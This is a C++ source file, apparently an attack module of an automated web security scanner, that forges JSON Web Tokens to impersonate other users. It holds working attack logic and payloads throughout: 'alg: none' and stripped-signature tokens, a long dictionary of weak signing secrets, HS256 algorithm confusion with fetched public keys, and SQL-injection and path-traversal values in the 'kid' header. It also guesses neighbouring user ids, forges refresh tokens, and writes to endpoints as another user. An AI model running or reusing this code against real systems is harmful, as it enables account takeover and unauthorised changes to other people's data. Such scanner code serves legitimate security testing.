// jwt-forgery: takes its own token and makes it another's: claims changed under the old signature,
// no signature and "alg": "none", an empty key, keys that everybody uses, found by signing what the
// token says and comparing, a public key as if it were a shared one, and a key id that leads the
// app to a key of the attacker's (RFC 8725, 2.1, 3.1 and 3.10; OWASP JSON Web Token Cheat Sheet).
// Where a cookie's token is believed in Authorization, too, it is forged there as well. A token for
// renewing is renewed in another's name. Where the attack names endpoints that write, they are
// written to as well.
#include <algorithm>

#include "core/attack/every_agent.h"
#include "core/attack/jwt_text.h"
#include "core/attack/request_writer.h"
#include "core/attack/signed_text.h"
#include "core/attack/stolen.h"

namespace parapet::attack {
namespace {

// With commas between; the empty key besides.
constexpr std::string_view kKeys =
    "secret,changeme,password,jwt-secret,jwt_secret,your-256-bit-secret,dev,test,key,"
    "mysecret,my-secret,supersecret,default,admin,super-secret,your-secret-key,s3cr3t,"
    "keyboard cat,jwt,token,secretkey,secret-key,shhhhh,123456,change-me,development,"
    "access,refresh,access-secret,refresh-secret,super_secret,supersecretkey,"
    "super-secret-key,super_secret_key,my_secret,my-secret-key,my_secret_key,mysecretkey,"
    "my-super-secret,my-super-secret-key,your_secret_key,your-secret,your_secret,"
    "yoursecret,your_jwt_secret,your-jwt-secret,jwtsecret,jwt-secret-key,jwt_secret_key,"
    "JWT_SECRET,SECRET,SECRET_KEY,secret_key,secret123,secret1234,password123,passw0rd,"
    "qwerty,letmein,hunter2,abc123,12345678,1234567890,changeit,change_me,changethis,"
    "change-this,change-this-secret,change-me-please,replace-me,replace_me,dev-secret,"
    "devsecret,dev_secret,development-secret,test-secret,testsecret,topsecret,top-secret,"
    "top_secret,verysecret,very-secret,very_secret,verysecretkey,very-secret-key,"
    "not-so-secret,s3cret,S3cr3t,s3cr3t-key,access-token-secret,access_token_secret,"
    "ACCESS_TOKEN_SECRET,refresh-token-secret,access_secret,token-secret,token_secret,"
    "session-secret,session_secret,session,cookie-secret,auth,auth-secret,app-secret,"
    "api-secret,private,private-key,privatekey,signing-key,signing-secret,hmac-secret,"
    "hs256,foo,bar,foobar,example,demo,node,express,shhh,shhhh";
constexpr int kIdsAround = 4;
constexpr std::size_t kDigitsOfField = 4;
constexpr std::string_view kBetweenFields = ".:|~,;!";
constexpr char kKeyIsKnown[] = "The signing key is in every dictionary: \"";

// Where "kid" ends up in SQL or in a path, the key is what the attacker says, or an empty file
// (RFC 8725, 3.10). The app may take it for text or for hexadecimal digits.
constexpr std::string_view kInjectedKey = "6b6579206f6620746865206174746163";
constexpr std::string_view kItsBytes = "key of the attac";
struct KeyIdInSql {
    std::string_view before;
    int columns;
};
constexpr KeyIdInSql kSqlKeyIds[] = {{"' UNION SELECT ", 1},  {"' UNION SELECT ", 2},
                                     {"' UNION SELECT ", 3},  {"-1 UNION SELECT ", 1},
                                     {"-1 UNION SELECT ", 2}, {"\" UNION SELECT ", 1}};
constexpr std::string_view kEmptyFiles[] = {"/dev/null", "../../../../../../../../dev/null"};

class JwtForgery final : public Agent {
    void run(Target& target) override {
        std::vector<std::string> const published = public_keys(target);
        Credentials const own = with_bearers(target, own_credentials(target));
        for (Credential const& each : own) {
            auto const jwt = read_jwt(each.value);
            if (is_for_refresh(each)) continue;
            if (!jwt) {
                forge_by_hand(target, each);
                continue;
            }
            std::vector<std::string> const keys = keys_of(target, *jwt);
            if (!keys.empty()) target.note(std::string(kKeyIsKnown) + keys.front() + "\".");
            for (std::string const& claims : claims_of_others(target, jwt->claims)) {
                auto const all = forgeries(*jwt, claims, keys, published);
                for (std::string const& forged : all) try_out(target, each, forged);
                write_as_another(target, each, all.front());
            }
        }
        renew_as_others(target);
    }

    // Cookies' tokens that the app believes in Authorization, too, perhaps less well looked at.
    static Credentials with_bearers(Target& target, Credentials own) {
        for (std::size_t i = 0, cookies = own.size(); i < cookies; ++i) {
            if (own[i].kind != Credential::Kind::Cookie || !read_jwt(own[i].value)) continue;
            Credentials bearer{own[i]};
            bearer.front().kind = Credential::Kind::Token;
            Credential const shown = bearer.front();
            if (keep_busy(target, bearer)) own.push_back(shown);
        }
        return own;
    }

    // A token that the app has put together itself. A signature of no length is equal to as much of
    // the right one.
    static void forge_by_hand(Target& target, Credential const& each) {
        auto const own = SignedText::read(each.value);
        if (!own) return;
        std::vector<std::string> keys = known_keys(target);
        std::erase_if(keys, [&](std::string const& key) { return !own->is_signed_with(key); });
        if (!keys.empty()) target.note(std::string(kKeyIsKnown) + keys.front() + "\".");
        for (std::string const& claims : claims_of_others(target, own->says())) {
            std::string const forged = own->saying(claims);
            try_out(target, each, forged);
            try_out(target, each, forged.substr(0, forged.rfind('.') + 1));
            for (std::string const& key : keys) try_out(target, each, own->saying(claims, key));
        }
    }

    // Who looks at a token well before showing something may look less well before writing.
    static void write_as_another(Target& target, Credential each, std::string const& forged) {
        if (target.option(option::kEndpoints).empty()) return;
        each.value = forged;
        show(target, {each}, unsafe_endpoints(target));
    }

    // The same with a token for renewing: each is good once, so that each forgery is of a new one.
    static void renew_as_others(Target& target) {
        std::size_t count = 1;
        for (std::size_t i = 0; i < count; ++i) {
            Credentials own = own_credentials(target);
            std::erase_if(own, [](Credential const& each) { return !is_for_refresh(each); });
            auto const jwt = own.empty() ? std::nullopt : read_jwt(own.front().value);
            if (!jwt) return;
            std::vector<std::string> all;
            auto const keys = keys_of(target, *jwt);
            for (std::string const& claims : claims_of_others(target, jwt->claims))
                for (std::string& forged : forgeries(*jwt, claims, keys, {}))
                    all.push_back(std::move(forged));
            count = all.size();
            if (i >= count) return;
            own.resize(1);
            own.front().value = all[i];
            use(target, refresh(target, own));
        }
    }

    // As the app hands them out to whoever wants to verify its tokens.
    static std::vector<std::string> public_keys(Target& target) {
        std::vector<std::string> keys;
        for (Endpoint const* each : endpoints_to_try(target)) {
            if (each->method != "GET" || each->path.find("key") == std::string::npos) continue;
            std::string const key = target.send(write_request(*each, samples(*each))).body;
            if (key.find("-----BEGIN") == std::string::npos) continue;
            keys.push_back(key);
            keys.push_back(key.substr(0, key.find_last_not_of('\n') + 1));
        }
        return keys;
    }

    static void try_out(Target& target, Credential each, std::string const& forged) {
        each.value = forged;
        use(target, {each});
    }

    static std::vector<std::string> keys_of(Target const& target, JwtText const& jwt) {
        std::vector<std::string> keys = known_keys(target);
        std::erase_if(keys, [&](std::string const& key) {
            return hmac_signature(jwt, key) != jwt.signature;
        });
        return keys;
    }

    static std::vector<std::string> known_keys(Target const& target) {
        std::vector<std::string> keys = split(kKeys, ',');
        keys.emplace_back();
        std::string const& host = target.surface().host;
        for (std::string const& name : {host, host.substr(0, host.find('.'))})
            for (std::string_view end : {"", "-secret", "_secret", "secret", "-jwt-secret", "-key",
                                         "-secret-key", "-dev", "123"})
                keys.push_back(name + std::string(end));
        return keys;
    }

    static std::vector<std::string> claims_of_others(Target const& target, std::string const& own) {
        std::vector<std::string> all;
        std::string const& own_name = target.surface().attacker.username;
        for (std::string const& name : target.surface().usernames) {
            std::string claims = own;
            std::size_t const at = claims.find(json_string(own_name));
            if (at != std::string::npos)
                all.push_back(claims.replace(at, json_string(own_name).size(), json_string(name)));
        }
        for (std::string_view id : {"sub", "id", "userId", "uid", "user", "accountId"})
            for (std::string& each : with_ids_around(own, id)) all.push_back(std::move(each));
        if (!own.starts_with('{')) append_other_fields(target, own, all);
        return all;
    }

    // Of a text that is no JSON: a field that is his name, or a short number as ids are.
    static void append_other_fields(Target const& target, std::string const& own,
                                    std::vector<std::string>& all) {
        for (std::size_t at = 0; at < own.size();) {
            std::size_t const end = std::min(own.find_first_of(kBetweenFields, at), own.size());
            std::string const field = own.substr(at, end - at);
            std::vector<std::string> others;
            if (field == target.surface().attacker.username)
                others = target.surface().usernames;
            else if (field.size() <= kDigitsOfField)
                others = ids_around(field);
            for (std::string const& other : others)
                all.push_back(own.substr(0, at) + other + own.substr(end));
            at = end + 1;
        }
    }

    static std::vector<std::string> with_ids_around(std::string const& claims,
                                                    std::string_view name) {
        std::vector<std::string> all;
        std::string text = member(claims, name).value_or("");
        bool const is_text = text.starts_with('"');
        std::erase(text, '"');
        for (std::string const& id : ids_around(text))
            all.push_back(with_member(claims, name, is_text ? "\"" + id + "\"" : id));
        return all;
    }

    static std::vector<std::string> ids_around(std::string const& own_id) {
        std::vector<std::string> all;
        bool const is_number = !own_id.empty() && own_id.size() < 9 &&
                               own_id.find_first_not_of("0123456789") == std::string::npos;
        if (!is_number) return all;
        int const own = std::atoi(own_id.c_str());
        for (int id = std::max(0, own - kIdsAround); id <= own + kIdsAround; ++id)
            if (id != own) all.push_back(std::to_string(id));
        return all;
    }

    static std::vector<std::string> forgeries(JwtText const& own, std::string const& claims,
                                              std::vector<std::string> const& keys,
                                              std::vector<std::string> const& published) {
        std::vector<std::string> all;
        JwtText forged{own.header, claims, own.signature};
        all.push_back(forged.write());
        for (std::string const& key : keys) {
            forged.signature = hmac_signature(forged, key);
            all.push_back(forged.write());
        }
        for (std::string const& key : published) {
            forged.header = with_member(own.header, "alg", "\"HS256\"");
            forged.signature = hmac_signature(forged, key);
            all.push_back(forged.write());
        }
        for (char const* none : {"\"none\"", "\"None\"", "\"NONE\""}) {
            forged.header = with_member(own.header, "alg", none);
            forged.signature.clear();
            all.push_back(forged.write());
        }
        if (member(own.header, "kid")) append_key_ids(own, claims, all);
        return all;
    }

    static void append_key_ids(JwtText const& own, std::string const& claims,
                               std::vector<std::string>& all) {
        auto const add = [&](std::string const& id, std::string_view key) {
            JwtText forged{with_member(own.header, "kid", json_string(id)), claims, ""};
            forged.signature = hmac_signature(forged, key);
            all.push_back(forged.write());
        };
        for (auto const& [before, columns] : kSqlKeyIds) {
            std::string id(before);
            for (int i = 0; i < columns; ++i)
                id += (i > 0 ? ",'" : "'") + std::string(kInjectedKey) + "'";
            id += " -- ";
            add(id, kInjectedKey);
            add(id, kItsBytes);
        }
        for (std::string_view file : kEmptyFiles) add(std::string(file), "");
    }
};

}  // namespace

std::unique_ptr<Agent> make_jwt_forgery() { return std::make_unique<JwtForgery>(); }

}  // namespace parapet::attack
